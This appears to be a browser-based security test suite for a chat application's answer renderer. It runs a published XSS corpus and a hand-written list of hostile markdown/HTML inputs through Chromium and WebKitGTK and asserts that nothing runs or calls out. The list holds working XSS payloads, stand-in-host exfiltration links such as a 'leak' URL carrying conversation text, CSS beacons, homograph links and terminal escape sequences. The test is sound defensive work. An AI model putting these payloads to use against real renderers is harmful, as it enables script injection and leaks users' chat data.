/**
 * What hostile answers do in real engines: nothing. Every attack of the published collection, and others, goes through
 * the real renderer and onto the real page; a trap hears whatever runs, and every request comes to one listener. Told
 * twice in each engine: under the app's own policy, where not even an attempt may be seen, and without any, where the
 * renderer stands alone. `WINGMAN_SOAK=1` hides each attack in every kind of block.
 */
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { Browser } from './browser.js';
import { CHROMIUM_S_OWN, Place, policy, rendered } from './hostile-place.js';

const read = (name: string): string => readFileSync(fileURLToPath(new URL(name, import.meta.url)), 'utf8');

/** BRS-KB 4.0.2, whole: what it is and whose, is said in `src-tauri/core/src/render/corpus_tests.rs`. */
const PUBLISHED = JSON.parse(read('../../src-tauri/core/tests/xss/brs-kb-4.0.2.json')) as string[];

/** What the collection has little of: what is loaded, what looks like something else, and what models are told to say. */
const OTHERS = [
  '![x](http://evil.example/pixel.png) ![x](//evil.example/p.png) ![x][r]\n\n[r]: http://evil.example/reference.png',
  '[link][r] ![x][r]\n\n[r]: http://evil.example/leak?q=all-that-was-said "title"',
  '<img srcset="http://evil.example/a 1x"><picture><source srcset="http://evil.example/b"><img></picture>',
  '<svg><image href="http://evil.example/c"/><use href="http://evil.example/d#x"/><feImage href="http://evil.example/e"/></svg>',
  '<math><mi xlink:href="http://evil.example/f" href="javascript:trap(1)">x</mi><maction actiontype="statusline#http://evil.example">y</maction></math>',
  '$\\href{javascript:trap(1)}{x} \\url{http://evil.example/g} \\includegraphics{http://evil.example/h} \\htmlStyle{background:url(http://evil.example/i)}{x}$',
  '<style>*{background:url(http://evil.example/j)} @font-face{font-family:x;src:url(http://evil.example/k)} @import "http://evil.example/l";</style>',
  '<div style="background-image:url(http://evil.example/m);position:fixed;inset:0">x</div>',
  '<form action="http://evil.example/n"><input name=q value=secret autofocus onfocus=trap(1)><button>Go</button></form>',
  '<iframe src="http://evil.example/o" srcdoc="<script>parent.trap(1)</script>"></iframe><object data="http://evil.example/p"></object><embed src="http://evil.example/q">',
  '<link rel=stylesheet href="http://evil.example/r"><link rel=prefetch href="http://evil.example/s"><link rel=dns-prefetch href="//evil.example"><base href="http://evil.example/">',
  '<meta http-equiv=refresh content="0;url=http://evil.example/t"><meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<video src="http://evil.example/u" poster="http://evil.example/v" autoplay onplay=trap(1)></video><audio src="http://evil.example/w" autoplay></audio>',
  '<a href="http://evil.example/x" ping="http://evil.example/y" onmouseover=trap(1)>x</a> <a href="javascript:trap(1)">y</a>',
  '[x](http://evil.example/z "onmouseover=trap(1)") [y](javascript:trap(1)) [z](data:text/html,<script>trap(1)</script>) [w](blob:http://evil.example/1)',
  '<table background="http://evil.example/aa"><td background="http://evil.example/bb">x</td></table><body background="http://evil.example/cc" onload=trap(1)>',
  '[github.com](http://github.com.evil.example/) [github.com](http://gіthub.com/) [bank](http://github.com@evil.example/) [x](http://evil.example\\@github.com/)',
  'https://evil.example/?q=<img src=x onerror=trap(1)> http://evil.example/"onmouseover="trap(1)',
  '\u001b]8;;http://evil.example/\u0007click\u001b]8;;\u0007 \u001b[2J \u001b]52;c;aGk=\u0007 \u009b31m',
  '`\u202e gnp.tset\u2066` \u202eevil\u202c \u2067x\u2069 ![\u202e](http://evil.example/dd)',
  '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\ngraph TD; A["<img src=x onerror=trap(1)>"]-->B; click A "javascript:trap(1)"\n```',
  '```html\n<script>trap(1)</script><img src=http://evil.example/ee>\n```',
  '<xmp><img src=x onerror=trap(1)></xmp><noscript><img src=http://evil.example/ff></noscript><plaintext>',
  '<template shadowrootmode=open><img src=http://evil.example/gg></template><slot onslotchange=trap(1)></slot>',
  '<details open ontoggle=trap(1)>x</details><dialog open onclose=trap(1)></dialog><input type=image src=http://evil.example/hh>',
];

/** The attack in the `n`th kind of block, as in the Rust tests. */
function hidden(attack: string, n: number): string {
  const kinds = [
    () => `- ${attack.replaceAll('\n', '\n  ')}\n- b`,
    () => `> ${attack.replaceAll('\n', '\n> ')}`,
    () => `# ${attack}`,
    () => `| a |\n|---|\n| ${attack} |`,
    () => `[${attack}](https://example.com) [x](${attack}) [x](<${attack}>)`,
    () => `![${attack}](${attack})`,
    () => `\`\`\`${attack}\n${attack}\n\`\`\``,
    () => `[^1]: ${attack}\n\n[x][y]\n\n[y]: ${attack}\n\n[y]`,
    () => `$$${attack}$$ and $\\text{${attack}}$`,
    () => `- [x] *${attack}* \`${attack}\` https://example.com/${attack}`,
  ];
  return kinds[n % kinds.length]?.() ?? attack;
}

const KINDS = process.env.WINGMAN_SOAK === '1' ? 10 : 1;
// One of them names a host that Chromium asks by itself: it is told another, so that what it asks for is counted.
const attacks = [...OTHERS, ...PUBLISHED].map((attack) => attack.replaceAll('accounts.google.com', 'evil.example'));
/** Each as it is, and hidden: all of them for the renderer alone, and under the policy, in the short form, as they are. */
const texts = attacks.flatMap((attack, at) => [attack, ...Array.from({ length: KINDS }, (_, kind) => hidden(attack, at + kind))]);

/** Hears whatever runs: what attacks call, what they break, what they change, and what a policy had to stop. */
const TRAP = `
  const heard = (window.heard = []);
  const hear = (what) => (...given) => { heard.push(what + ' ' + given.map(String).join(' ').slice(0, 200)); };
  for (const name of ['alert', 'confirm', 'prompt', 'print', 'open', 'trap', 'stop', 'close']) window[name] = hear(name);
  for (const name of ['write', 'writeln', 'open', 'execCommand']) document[name] = hear('document.' + name);
  addEventListener('error', (event) => { if (event instanceof ErrorEvent) heard.push('error ' + event.message); }, true);
  addEventListener('unhandledrejection', (event) => heard.push('rejection ' + String(event.reason)));
  addEventListener('securitypolicyviolation', (event) => heard.push('stopped ' + event.violatedDirective + ' ' + event.blockedURI + ' ' + event.sample));
  addEventListener('beforeunload', () => heard.push('left'));
  addEventListener('hashchange', () => heard.push('hash ' + location.hash));
  addEventListener('submit', () => heard.push('submitted'), true);`;

/** Does to every element what a person or an engine could, and answers with what it should not have become. */
const TOUCH = `
  const wrong = [];
  const allowed = new Set(arguments[1]);
  for (const one of document.querySelectorAll(arguments[0])) {
    const ours = one.closest('button') !== null;
    if (ours && one.localName !== 'button') continue;
    if (!ours && !allowed.has(one.localName)) wrong.push('<' + one.localName + '>');
    for (const { name, value } of one.attributes) {
      if (/^on|^style$|^srcset$|^ping$|^action|^formaction|^id$|href/i.test(name) && !(one.localName === 'a' && name === 'href' && /^(https?:|mailto:|#)/.test(value))) wrong.push(one.localName + ' ' + name + '=' + value.slice(0, 80));
      if (name === 'src' && !value.startsWith('data:image/')) wrong.push('src=' + value.slice(0, 80));
    }
    for (const type of ['pointerover', 'mouseover', 'click', 'auxclick'])
      one.dispatchEvent(new MouseEvent(type, { bubbles: true, cancelable: true, button: type === 'auxclick' ? 1 : 0 }));
    for (const type of ['focus', 'load', 'error', 'toggle', 'animationstart']) one.dispatchEvent(new Event(type));
    one.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, cancelable: true }));
  }
  return wrong;`;

/** The elements that an answer's HTML may become, the window's own buttons aside. */
const ELEMENTS = [
  ...['a', 'blockquote', 'br', 'code', 'del', 'div', 'em', 'figcaption', 'figure', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'hr', 'img', 'input', 'label', 'li', 'ol', 'p', 'pre', 'span', 'strong', 'sup'],
  ...['table', 'tbody', 'td', 'th', 'thead', 'tr', 'ul', 'math', 'annotation', 'semantics'],
  ...['menclose', 'mfrac', 'mi', 'mmultiscripts', 'mn', 'mo', 'mover', 'mpadded', 'mphantom', 'mprescripts', 'mroot', 'mrow', 'ms', 'mspace', 'msqrt', 'mstyle', 'msub', 'msubsup', 'msup', 'mtable', 'mtd', 'mtext', 'mtr', 'munder', 'munderover'],
];

const BATCH = 400;

const ENGINES = [
  { name: 'Chromium', start: (proxy: string) => Browser.chromium(`--proxy-server=http://${proxy}`, '--proxy-bypass-list=<-loopback>', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run') },
  { name: 'WebKitGTK', start: (proxy: string) => Browser.webKit(proxy) },
];
const WALLS = [
  { wall: 'under the app’s policy', csp: policy() },
  { wall: 'without any policy', csp: null },
];

let blocks: Promise<string[][]> | undefined;

describe.each(ENGINES)('hostile answers, in $name', ({ start }) => {
  describe.each(WALLS)('$wall', ({ csp }) => {
    let place: Place;
    let browser: Browser;
    beforeAll(async () => {
      place = await Place.open(inject('pages'), csp);
      browser = await start(place.host);
    });
    afterAll(async () => {
      await browser.end();
      place.close();
    });

    test('nothing runs and nothing is asked for, whatever is touched', async () => {
      expect(PUBLISHED.length, 'the whole published collection').toBe(4_462);
      expect(CHROMIUM_S_OWN.filter((host) => texts.some((text) => text.includes(host))), 'what is not counted is nobody’s but the browser’s').toEqual([]);
      const all = await (blocks ??= rendered(texts));
      expect(all.length, 'each of them is rendered').toBe(texts.length);
      const answers = csp === null || KINDS > 1 ? all : all.filter((_, at) => at % 2 === 0);
      await browser.driver.get(`http://${place.host}/?scripted=chat&theme=light`);
      await browser.until(`document.querySelectorAll('.chat-link').length > 0`, 'the window');
      await browser.run(`document.querySelector('.chat-link').click()`);
      await browser.until(`document.querySelector('.log .prose') !== null`, 'the chat');
      await browser.run(`scripted.drawing = 'about:blank'; ${TRAP}`);
      expect(place.asked.length, 'the listener hears what is asked for').toBeGreaterThan(2);
      place.asked.length = 0;
      const before = await browser.run<string>(STANDING);

      for (let at = 0; at < answers.length; at += BATCH) {
        const html = answers.slice(at, at + BATCH).flat();
        await browser.run(SHOW, html);
        await browser.until(`document.querySelector('.log article.answer:last-of-type .prose')?.childElementCount >= ${html.length}`, 'the answers to be shown');
        const wrong = await browser.run<string[]>(TOUCH, '.log .prose, .log .prose *', ELEMENTS);
        const heard = await browser.run<string[]>('return [...new Set(heard.splice(0))]');
        const where = (): string => `among the texts ${at} to ${at + BATCH}`;
        expect(wrong, `no element and no attribute that an answer has no use for, ${where()}`).toEqual([]);
        expect(heard, `nothing runs, and no policy had to stop anything, ${where()}`).toEqual([]);
        expect(place.asked, `nothing is asked for, ${where()}`).toEqual([]);
      }
      // What is asked for late, or a while after.
      await browser.driver.sleep(500);
      expect(await browser.run<string[]>('return heard'), 'nor later').toEqual([]);
      expect(place.asked, 'nor is anything asked for').toEqual([]);
      expect(await browser.run<string>(STANDING), 'the page is where it was, and as it was').toBe(before);
      const opened = await browser.run<string[]>(`return scripted.calls('open_link').map(({ link }) => link.url)`);
      expect(opened.length, 'links were clicked').toBeGreaterThan(100);
      expect(opened.filter((url) => !/^(https?:\/\/|mailto:)/.test(url)), 'each leads to the web or to a mailbox').toEqual([]);
    });
  });

  test('the trap hears what runs, and the listener what is asked for', async () => {
    const place = await Place.open(inject('pages'), null);
    const browser = await start(place.host);
    try {
      await browser.driver.get(`http://${place.host}/empty`);
      await browser.run(TRAP);
      place.asked.length = 0;
      const images = PUBLISHED.filter((attack) => /^<img [^>]*onerror=["']?(alert|confirm|prompt)[(`]/i.test(attack));
      expect(images.length, 'attacks that need nobody').toBeGreaterThan(20);
      await browser.run(`document.body.innerHTML = arguments[0].join('') + '<img src="http://evil.example/pixel"><img src="https://evil.example/pixel">'`, images);
      await browser.until(`heard.length > 20`, 'what the raw attacks do');
      const asked = (how: string): boolean => place.asked.some((one) => one.startsWith(how));
      await expect.poll(() => asked('GET http://evil.example/') && asked('CONNECT '), { message: 'any host, by TLS too', timeout: 10_000 }).toBe(true);
    } finally {
      await browser.end();
      place.close();
    }
  });
});

describe.each([
  { name: 'Chromium', start: () => Browser.chromium() },
  { name: 'WebKitGTK', start: () => Browser.webKit() },
])('what is written in another direction, in $name', ({ start }) => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await start();
  });
  afterAll(() => browser.end());

  test('reorders nothing beside it, and is read from its own side', async () => {
    const [prose, code, hebrew, control] = await rendered([
      'Compare [אבג](https://a.example/) 12 [דהו](https://b.example/) now.',
      '```js\nif (a === "אבג" , 12 , "דהו")\n```',
      'שלום לכולם, זהו [קישור](https://a.example/) בתוך `code()` בעברית.',
      '`user\u202e nimda` and \u202etxt.exe and [a\u202eb](https://a.example/)',
    ]);
    await browser.open('chat');
    await browser.run(`document.querySelector('.chat-link').click()`);
    await browser.until(`document.querySelector('.log .prose') !== null`, 'the chat');
    await browser.run(SHOW, [prose, code, hebrew, control].flat());
    await browser.until(`document.querySelector('.log article.answer:last-of-type .prose')?.childElementCount === 4`, 'the answer');
    /** Where the first and the second of these stand, from the left. */
    const order = (first: string, second: string): Promise<boolean> =>
      browser.run<boolean>(
        `const at = (text) => {
           const walk = document.createTreeWalker(document.querySelector('.log article.answer:last-of-type .prose').children[arguments[0]], NodeFilter.SHOW_TEXT);
           for (let node; (node = walk.nextNode()); ) {
             const start = node.data.indexOf(text);
             if (start < 0) continue;
             const range = document.createRange();
             range.setStart(node, start);
             range.setEnd(node, start + text.length);
             return range.getBoundingClientRect().left;
           }
           throw new Error(text + ' is not there');
         };
         return at(arguments[1]) < at(arguments[2]);`,
        here,
        first,
        second,
      );
    let here = 0;
    expect(await order('אבג', 'דהו'), 'two links stand in the order in which they are written').toBe(true);
    here = 1;
    expect(await order('אבג', 'דהו'), 'so do the strings of code').toBe(true);
    here = 2;
    expect(await order('קישור', 'שלום'), 'a Hebrew sentence begins on the right').toBe(true);
    const words = await browser.run<string>(`return document.querySelector('.log article.answer:last-of-type .prose').children[3].textContent`);
    expect(words, 'an override is shown in code and dropped in prose').toBe('user[U+202E] nimda and txt.exe and ab');
  });
});

/** What an attack could leave behind. */
const STANDING = `return JSON.stringify([location.href, document.cookie, Object.keys(localStorage), Object.keys(sessionStorage), frames.length, document.scripts.length, Object.isFrozen(heard)])`;

/** Puts blocks into the last answer, as the core does. */
const SHOW = `
  const { summary, turns } = [...scripted.kept.values()].find((kept) => kept.turns.length > 0);
  const blocks = arguments[0].map((html) => ({ kind: { kind: 'text' }, html }));
  scripted.patch(summary.id, [{ kind: 'turn', turn: { ...turns.at(-1), blocks, tail: '' } }]);`;
